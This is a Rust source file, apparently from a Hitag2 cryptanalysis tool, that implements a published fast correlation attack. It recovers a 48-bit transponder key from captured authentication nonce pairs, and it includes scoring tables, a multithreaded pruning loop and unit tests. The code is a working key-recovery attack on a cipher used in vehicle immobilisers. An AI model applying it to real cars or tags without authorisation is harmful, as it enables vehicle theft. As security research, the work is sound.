// src/attacks/correlation.rs
//
// Attack 4: fast correlation key recovery from a handful of (nR, aR)
// pairs, after Garcia, Oswald, Kasper and Pavlides, "Lock It and Still
// Lose It".
//
// All 2^16 guesses of the low 16 key bits are scored for how well they
// correlate with the observed keystreams, the best half is kept and
// extended by one bit, and the process repeats until 48 bits are guessed.
// Scoring works on partial states: for each filter nibble, precomputed
// tables give the probability of an output of 1 given only the known low
// bits of that nibble. The weighting by relevant-bit count is empirical;
// it is what survived tuning in the original.

use std::thread;

use crate::error::{Error, Result};
use crate::hitag2::{f20, filter, pack_state, verify_key, FA, FB, FC};
use crate::nonces::{Trace, MAX_TRACES_CORRELATION};
use crate::utils::format_key;

/// P(output = 1) for fa given the k low input bits, indexed [k-1][bits].
const PFNA: [[f64; 8]; 3] = [
    [0.50000, 0.50000, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0],
    [0.50000, 0.50000, 0.50000, 0.50000, 0.0, 0.0, 0.0, 0.0],
    [0.50000, 0.00000, 0.50000, 1.00000, 0.50000, 1.00000, 0.50000, 0.00000],
];

/// P(output = 1) for fb given the k low input bits.
const PFNB: [[f64; 8]; 3] = [
    [0.62500, 0.37500, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0],
    [0.50000, 0.75000, 0.75000, 0.00000, 0.0, 0.0, 0.0, 0.0],
    [0.50000, 0.50000, 0.50000, 0.00000, 0.50000, 1.00000, 1.00000, 0.00000],
];

/// P(output = 1) for fc given the k low input bits.
const PFNC: [[f64; 16]; 4] = [
    [
        0.50000, 0.50000, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0,
    ],
    [
        0.62500, 0.62500, 0.37500, 0.37500, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0,
        0.0,
    ],
    [
        0.75000, 0.50000, 0.25000, 0.75000, 0.50000, 0.75000, 0.50000, 0.00000, 0.0, 0.0, 0.0,
        0.0, 0.0, 0.0, 0.0, 0.0,
    ],
    [
        1.00000, 1.00000, 0.50000, 0.50000, 0.50000, 0.50000, 0.50000, 0.00000, 0.50000, 0.00000,
        0.00000, 1.00000, 0.50000, 1.00000, 0.50000, 0.00000,
    ],
];

/// Number of filter-relevant bits among the low `size` bits of a
/// pre-shifted state.
const PACKED_SIZE: [u32; 49] = [
    0, 0, 0, 1, 2, 2, 3, 4, 4, 5, 5, 5, 5, 6, 6, 7, 8, 8, 9, 9, 9, 9, 10, 10, 11, 11, 11, 12, 12,
    13, 14, 14, 15, 15, 16, 17, 17, 17, 17, 17, 17, 17, 17, 17, 18, 19, 19, 20, 20,
];

/// A guessed key prefix with its running score and, per trace, the
/// keystream bits the prefix implies so far.
#[derive(Clone)]
struct Guess {
    key: u64,
    score: f64,
    b0to31: [u64; MAX_TRACES_CORRELATION],
}

/// Probability that a state whose low `size` bits are known could emit
/// the bit `b`.
fn bit_score(s: u64, size: u32, b: u64) -> f64 {
    let chopped = s & ((1u64 << size) - 1);
    let packed = pack_state(chopped);
    let n = PACKED_SIZE[size as usize];
    let b1 = b & 1;

    let prob = if n == 0 {
        return 0.5;
    } else if n < 4 {
        // incomplete first nibble: weigh fc(0) and fc(1) by the chance
        // of fa producing each
        let nibprob1 = PFNA[n as usize - 1][packed as usize];
        let nibprob0 = 1.0 - nibprob1;
        nibprob0 * PFNC[0][0] + nibprob1 * PFNC[0][1]
    } else if n < 20 {
        let mut fcinput = (FA >> (packed & 0xf)) & 1;
        fcinput |= ((FB >> ((packed >> 4) & 0xf)) & 1) << 1;
        fcinput |= ((FB >> ((packed >> 8) & 0xf)) & 1) << 2;
        fcinput |= ((FB >> ((packed >> 12) & 0xf)) & 1) << 3;
        fcinput |= ((FA >> ((packed >> 16) & 0xf)) & 1) << 4;
        // keep only the bits backed by complete nibbles
        fcinput &= (1u32 << (n / 4)) - 1;

        if n % 4 == 0 {
            PFNC[(n / 4) as usize - 1][fcinput as usize]
        } else if n <= 16 {
            // partial nibble is in the fb area
            let nibprob1 = PFNB[(n % 4) as usize - 1][(packed >> ((n / 4) * 4)) as usize];
            let nibprob0 = 1.0 - nibprob1;
            nibprob0 * PFNC[(n / 4) as usize][fcinput as usize]
                + nibprob1 * PFNC[(n / 4) as usize][(fcinput | (1 << (n / 4))) as usize]
        } else {
            // partial nibble is the final fa
            let nibprob1 = PFNA[(n % 4) as usize - 1][(packed >> 16) as usize];
            let nibprob0 = 1.0 - nibprob1;
            nibprob0 * ((FC >> fcinput) & 1) as f64 + nibprob1 * ((FC >> (fcinput | 0x10)) & 1) as f64
        }
    } else {
        f20(packed) as f64
    };

    if b1 == 1 {
        prob
    } else {
        1.0 - prob
    }
}

/// Multi-bit correlation: slide the window over the keystream, adding
/// each bit score weighted by how many relevant bits the window still
/// holds. A single impossible bit zeroes the whole guess.
fn score(mut s: u64, mut size: u32, mut ks: u64, mut kssize: u32) -> f64 {
    let mut total = 0.0;
    loop {
        let sc = bit_score(s, size, ks & 1);
        if sc == 0.0 {
            return 0.0;
        }
        total += sc * (PACKED_SIZE[size as usize] + 1) as f64;

        if size == 1 || kssize == 1 {
            return total;
        }
        s >>= 1;
        size -= 1;
        ks >>= 1;
        kssize -= 1;
    }
}

/// Score one guess against every trace at the current prefix length and
/// extend its implied keystream by the freshly determined bit.
fn score_traces(g: &mut Guess, size: u32, uid: u32, traces: &[Trace]) {
    if g.score == 0.0 {
        return;
    }

    let mut total = 0.0;
    for (i, t) in traces.iter().enumerate() {
        // state after `size - 16` init shifts: remaining UID low, key
        // prefix and decrypted insertions above
        let lfsr = (uid as u64 >> (size - 16))
            | ((g.key << (48 - size)) ^ (((t.enc_nr as u64) ^ g.b0to31[i]) << (64 - size)));
        g.b0to31[i] |= (filter(lfsr) as u64) << (size - 16);

        // full window: key prefix low, decrypted insertions above
        let window = g.key ^ (((t.enc_nr as u64) ^ g.b0to31[i]) << 16);

        let sc = score(window, size, t.keystream_lsb() as u64, 32);
        if sc == 0.0 {
            g.score = 0.0;
            return;
        }
        total += sc;
    }

    g.score = total / traces.len() as f64;
}

fn score_all(guesses: &mut [Guess], size: u32, uid: u32, traces: &[Trace], threads: usize) {
    let chunk = guesses.len().div_ceil(threads).max(1);
    thread::scope(|s| {
        for part in guesses.chunks_mut(chunk) {
            s.spawn(move || {
                for g in part {
                    score_traces(g, size, uid, traces);
                }
            });
        }
    });
}

#[derive(Debug, Clone, Copy)]
pub struct CorrelationOptions {
    /// Guess table capacity; bigger recovers more keys and runs longer.
    pub table_size: usize,
    pub threads: usize,
    /// Known key to track through the rounds, for tuning the scorer.
    pub test_key: Option<u64>,
}

impl Default for CorrelationOptions {
    fn default() -> Self {
        CorrelationOptions {
            table_size: 800_000,
            threads: num_cpus::get(),
            test_key: None,
        }
    }
}

/// Where the tracked test key currently sits, if it survived.
fn report_test_key(guesses: &[Guess], size: u32, test_key: u64) -> bool {
    let partial = test_key & ((1u64 << size) - 1);
    match guesses.iter().position(|g| g.key == partial) {
        Some(pos) => {
            println!(
                " test key score = {:.10}, position = {}",
                guesses[pos].score, pos
            );
            true
        }
        None => {
            println!("TEST KEY NO LONGER IN GUESSES");
            false
        }
    }
}

/// Run the correlation attack. Returns the key, or None when no guess in
/// the final table explains the first two traces.
pub fn crack(uid: u32, traces: &[Trace], opts: &CorrelationOptions) -> Result<Option<u64>> {
    if traces.len() < 2 {
        return Err(Error::usage(
            "traces",
            format!("{} pairs loaded, need at least 2", traces.len()),
        ));
    }
    if traces.len() > MAX_TRACES_CORRELATION {
        return Err(Error::usage(
            "traces",
            format!("{} pairs, maximum is {}", traces.len(), MAX_TRACES_CORRELATION),
        ));
    }
    if opts.table_size < 0x20000 {
        return Err(Error::usage(
            "table_size",
            format!("{} is too small for the initial 2^16 guesses", opts.table_size),
        ));
    }

    let threads = opts.threads.max(1);
    let mut guesses: Vec<Guess> = (0..0x10000u64)
        .map(|key| Guess {
            key,
            score: -1.0,
            b0to31: [0u64; MAX_TRACES_CORRELATION],
        })
        .collect();

    for size in 16..48u32 {
        println!("round {:2}, size={:2}", size - 16, size);

        score_all(&mut guesses, size, uid, traces, threads);
        guesses.sort_unstable_by(|a, b| b.score.total_cmp(&a.score));

        if let Some(tk) = opts.test_key {
            if !report_test_key(&guesses, size, tk) {
                return Ok(None);
            }
        }

        let halfsize = guesses.len().min(opts.table_size / 2);
        guesses.truncate(halfsize);
        for i in 0..halfsize {
            let mut g = guesses[i].clone();
            g.key |= 1u64 << size;
            guesses.push(g);
        }

        println!(
            " guess={}, num_guesses = {}, top score={:.10}, min score={:.10}",
            format_key(guesses[0].key),
            guesses.len(),
            guesses[0].score,
            guesses[guesses.len() - 1].score
        );
    }

    // every surviving guess is a full 48-bit key now
    for g in &guesses {
        if verify_key(g.key, uid, traces[0].enc_nr, traces[0].ar_msb())
            && verify_key(g.key, uid, traces[1].enc_nr, traces[1].ar_msb())
        {
            return Ok(Some(g.key));
        }
    }

    Ok(None)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hitag2::{Hitag2State, MASK48};
    use rand::rngs::StdRng;
    use rand::{Rng, SeedableRng};

    fn make_traces(key: u64, uid: u32, count: usize, seed: u64) -> Vec<Trace> {
        let mut r = StdRng::seed_from_u64(seed);
        (0..count)
            .map(|_| {
                let enc_nr = r.gen::<u32>();
                let ar_msb = !Hitag2State::init(key, uid, enc_nr).nstep(32);
                Trace {
                    enc_nr,
                    ar: ar_msb.reverse_bits(),
                }
            })
            .collect()
    }

    #[test]
    fn bit_score_base_cases() {
        assert_eq!(bit_score(0x155, 1, 1), 0.5);
        assert_eq!(bit_score(0x155, 1, 0), 0.5);

        // with all 48 bits known the score is the filter output itself
        let mut r = StdRng::seed_from_u64(3);
        for _ in 0..200 {
            let s = r.gen::<u64>() & MASK48;
            let out = f20(pack_state(s)) as f64;
            assert_eq!(bit_score(s, 48, 1), out);
            assert_eq!(bit_score(s, 48, 0), 1.0 - out);
        }
    }

    #[test]
    fn probabilities_stay_in_range() {
        let mut r = StdRng::seed_from_u64(4);
        for _ in 0..2000 {
            let s = r.gen::<u64>() & MASK48;
            let size = r.gen_range(1..=48);
            let p = bit_score(s, size, 1);
            assert!((0.0..=1.0).contains(&p), "p={} size={}", p, size);
            let q = bit_score(s, size, 0);
            assert!((p + q - 1.0).abs() < 1e-12);
        }
    }

    #[test]
    fn true_key_state_never_scores_zero() {
        // the exact keystream of a fully known state must always be
        // consistent with itself
        let mut r = StdRng::seed_from_u64(5);
        for _ in 0..50 {
            let mut st = Hitag2State::from_state(r.gen::<u64>() & MASK48);
            let window = st.shiftreg;
            let mut ks = 0u64;
            for i in 0..32 {
                ks |= (st.step() as u64) << i;
            }
            assert!(score(window, 48, ks, 32) > 0.0);
        }
    }

    #[test]
    fn implied_keystream_matches_cipher() {
        // drive score_traces through all rounds for the true key alone
        // and check the reconstructed b0..b31 against the real cipher
        let mut r = StdRng::seed_from_u64(6);
        let key = r.gen::<u64>() & MASK48;
        let uid = r.gen::<u32>();
        let traces = make_traces(key, uid, 4, 44);

        let mut g = Guess {
            key: key & 0xffff,
            score: -1.0,
            b0to31: [0u64; MAX_TRACES_CORRELATION],
        };
        for size in 16..48u32 {
            score_traces(&mut g, size, uid, &traces);
            assert!(g.score > 0.0, "true key pruned at size {}", size);
            g.key = key & ((1u64 << (size + 1)) - 1);
        }

        for (i, t) in traces.iter().enumerate() {
            // re-derive the filter bits emitted while the nonce was
            // shifted in
            let mut s = ((key & 0xffff) << 32) | uid as u64;
            let stream = (key >> 16) as u32 ^ t.enc_nr;
            let mut b = 0u64;
            for j in 0..32 {
                let f = filter(s) as u64;
                b |= f << j;
                let inject = (((stream >> j) & 1) as u64) ^ f;
                s = (s >> 1) | (inject << 47);
            }
            assert_eq!(g.b0to31[i], b, "trace {}", i);

            // the scored window is exactly the post-init register
            let window = g.key ^ (((t.enc_nr as u64) ^ g.b0to31[i]) << 16);
            assert_eq!(window, Hitag2State::init(key, uid, t.enc_nr).shiftreg);
        }
    }
}
